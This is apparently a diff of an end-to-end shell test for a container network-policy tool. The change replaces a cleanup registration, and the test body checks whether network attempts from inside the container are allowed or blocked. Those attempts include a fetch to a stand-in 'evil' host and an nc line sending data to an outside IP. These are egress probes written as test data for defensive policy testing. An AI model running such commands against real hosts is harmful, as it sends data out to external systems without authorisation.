@@ -9,7 +9,7 @@ bundle nej.policy="$E2E/policy.yaml" nej.name="$NAME" -- sh -c '
 	fetch x.evil.test 80; echo "name $?"
 	echo hi | nc -w 3 45.33.32.156 25; echo "address $?"
 	while [ ! -e /tmp/go ]; do sleep 0.1; done'
-AT_END+=('runc delete -f "$ID"; rmdir /sys/fs/cgroup/unified/"nej-$ID"')
+before_end 'runc delete -f "$ID"; rmdir /sys/fs/cgroup/unified/"nej-$ID"'
 runtime runc run -d --bundle "$BUNDLE" "$ID" >"$E2E/out" 2>&1 || fail "$(cat "$E2E/out")"
 eventually grep -q address "$E2E/out"
 grep -q hello "$E2E/out" && grep -q 'allowed 0' "$E2E/out" || fail "$(cat "$E2E/out")"
